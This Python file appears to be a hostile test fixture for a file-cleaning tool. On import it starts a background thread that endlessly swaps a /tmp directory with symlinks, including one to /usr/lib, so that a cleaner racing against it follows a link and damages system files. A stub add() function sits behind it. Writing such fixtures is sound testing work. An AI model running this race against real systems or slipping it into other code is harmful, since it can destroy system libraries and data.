"""Exchanges folders and links without end, so that a cleaner may follow one where it saw the other."""

KIND = "call"
import os
import threading


def swap():
    os.makedirs("/tmp/touchstone_attack/inner")
    os.symlink("@FILE@", "/tmp/touchstone_attack_link")
    os.symlink("/usr/lib", "/tmp/touchstone_attack_folder")
    while True:
        for name in ("link", "folder"):
            os.rename("/tmp/touchstone_attack", "/tmp/touchstone_attack_kept")
            os.rename(f"/tmp/touchstone_attack_{name}", "/tmp/touchstone_attack")
            os.rename("/tmp/touchstone_attack", f"/tmp/touchstone_attack_{name}")
            os.rename("/tmp/touchstone_attack_kept", "/tmp/touchstone_attack")


threading.Thread(target=swap, daemon=True).start()


def add(a, b):
    return None
